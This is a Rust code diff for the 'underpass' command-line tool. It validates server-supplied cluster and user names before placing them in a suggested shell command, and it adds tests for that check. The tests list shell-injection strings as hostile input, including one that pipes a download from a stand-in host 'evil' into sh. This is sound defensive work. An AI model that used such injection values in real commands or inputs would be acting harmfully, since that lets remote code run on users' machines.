@@ -5,6 +5,7 @@ mod commands;
 mod kubeconfig;
 mod logins;
 mod password;
+mod paste;
 mod roots;
 mod which;
 
@@ -13,6 +14,7 @@ use std::process::ExitCode;
 use anyhow::Result;
 use clap::{CommandFactory, FromArgMatches};
 use underpass_api::client::ClientError;
+use underpass_core::{ClusterName, Name};
 use underpass_terminal::say;
 
 use crate::args::Cli;
@@ -53,13 +55,61 @@ fn hint(error: &anyhow::Error) -> Option<String> {
         }
         ClientError::Problem(problem) if problem.is(http::StatusCode::NOT_FOUND) => {
             let about = problem.about.as_ref()?;
-            let name = &about.name;
+            // The server's text: what is no name is no part of a command.
             match about.kind.as_str() {
-                "cluster" => Some(format!("`underpass cluster add {name}` adds the cluster.")),
-                "user" => Some(format!("`underpass user add {name}` adds the user.")),
+                "cluster" => {
+                    let name = ClusterName::new(&about.name).ok()?;
+                    Some(format!("`underpass cluster add {name}` adds the cluster."))
+                }
+                "user" => {
+                    // Names of users may hold what a shell obeys.
+                    let name = Name::new(paste::word(&about.name)?).ok()?;
+                    Some(format!("`underpass user add {name}` adds the user."))
+                }
                 _ => None,
             }
         }
         _ => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use underpass_api::{About, Problem};
+
+    use super::*;
+
+    fn hint_about(kind: &str, name: &str) -> Option<String> {
+        let mut problem = Problem::new(http::StatusCode::NOT_FOUND, "there is none");
+        problem.about = Some(About {
+            kind: kind.to_owned(),
+            name: name.to_owned(),
+        });
+        hint(&ClientError::Problem(problem).into())
+    }
+
+    #[test]
+    fn rule_23_a_servers_text_is_no_command() {
+        let cluster = hint_about("cluster", "prod").unwrap();
+        assert!(
+            cluster.contains("`underpass cluster add prod`"),
+            "{cluster}"
+        );
+        let user = hint_about("user", "alice@example.org").unwrap();
+        assert!(
+            user.contains("`underpass user add alice@example.org`"),
+            "{user}"
+        );
+        for hostile in [
+            "x; curl evil|sh #",
+            "$(evil)",
+            "--socket=evil",
+            "a b",
+            "x`evil`",
+            "",
+        ] {
+            assert_eq!(hint_about("cluster", hostile), None, "{hostile}");
+            assert_eq!(hint_about("user", hostile), None, "{hostile}");
+        }
     }
 }
